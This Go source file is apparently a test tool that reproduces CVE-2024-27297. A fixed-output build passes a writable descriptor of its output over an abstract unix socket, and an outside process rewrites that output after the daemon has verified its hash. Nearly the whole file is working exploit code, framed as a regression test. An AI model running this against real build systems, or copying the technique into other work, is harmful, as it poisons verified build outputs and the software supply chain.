// Command fdpass is the attack of CVE-2024-27297, for tests: a fixed-output build hands a writable
// descriptor of its own output to a process outside the build, which rewrites the output after the
// daemon has checked its hash and registered it.
//
//	fdpass send NAME FILE CONTENT     create FILE, pass it to @NAME, then write CONTENT to it
//	fdpass recv NAME CONTENT TRIGGER  take a descriptor from @NAME; once TRIGGER exists, make CONTENT
//	                                  the file's content
//
// NAME is an abstract unix socket, reachable by anything in the same network namespace. It is
// built static, so a sandboxed build can run it with nothing else in its closure.
package main

import (
	"fmt"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "fdpass:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	switch {
	case len(args) == 4 && args[0] == "send":
		return send(args[1], args[2], args[3])
	case len(args) == 4 && args[0] == "recv":
		return recv(args[1], args[2], args[3])
	}
	return fmt.Errorf("usage: fdpass send NAME FILE CONTENT | fdpass recv NAME CONTENT TRIGGER")
}

func send(name, file, content string) error {
	fd, err := unix.Open(file, unix.O_CREAT|unix.O_RDWR|unix.O_CLOEXEC, 0o644)
	if err != nil {
		return fmt.Errorf("create %s: %w", file, err)
	}
	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	// Without a listener the build is harmless: it still writes its content and succeeds.
	if err := unix.Connect(s, &unix.SockaddrUnix{Name: "@" + name}); err == nil {
		if err := unix.Sendmsg(s, []byte("x"), unix.UnixRights(fd), nil, 0); err != nil {
			return fmt.Errorf("pass the descriptor: %w", err)
		}
		fmt.Println("fdpass: passed the descriptor of", file)
	} else {
		fmt.Println("fdpass: nobody listens on @"+name+":", err)
	}
	if _, err := unix.Write(fd, []byte(content)); err != nil {
		return err
	}
	return unix.Close(fd)
}

func recv(name, content, trigger string) error {
	l, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := unix.Bind(l, &unix.SockaddrUnix{Name: "@" + name}); err != nil {
		return fmt.Errorf("listen on @%s: %w", name, err)
	}
	if err := unix.Listen(l, 1); err != nil {
		return err
	}
	fmt.Println("fdpass: listening on @" + name)
	// Nobody may come (the build runs in another network namespace): give up rather than hang.
	pfd := []unix.PollFd{{Fd: int32(l), Events: unix.POLLIN}}
	if n, err := unix.Poll(pfd, 60_000); err != nil || n == 0 {
		return fmt.Errorf("no build connected to @%s within a minute (%v)", name, err)
	}
	c, _, err := unix.Accept(l)
	if err != nil {
		return err
	}
	buf, oob := make([]byte, 1), make([]byte, unix.CmsgSpace(4))
	_, oobn, _, _, err := unix.Recvmsg(c, buf, oob, 0)
	if err != nil {
		return fmt.Errorf("receive: %w", err)
	}
	msgs, err := unix.ParseSocketControlMessage(oob[:oobn])
	if err != nil || len(msgs) == 0 {
		return fmt.Errorf("no descriptor came: %v", err)
	}
	fds, err := unix.ParseUnixRights(&msgs[0])
	if err != nil || len(fds) == 0 {
		return fmt.Errorf("no descriptor came: %v", err)
	}
	fmt.Println("fdpass: holding a descriptor of the build's output")
	for deadline := time.Now().Add(2 * time.Minute); ; time.Sleep(20 * time.Millisecond) {
		if _, err := os.Stat(trigger); err == nil {
			break
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("%s did not appear", trigger)
		}
	}
	if err := unix.Ftruncate(fds[0], 0); err != nil {
		return fmt.Errorf("truncate the output: %w", err)
	}
	if _, err := unix.Pwrite(fds[0], []byte(content), 0); err != nil {
		return fmt.Errorf("rewrite the output: %w", err)
	}
	fmt.Println("fdpass: rewrote the build's output")
	return nil
}
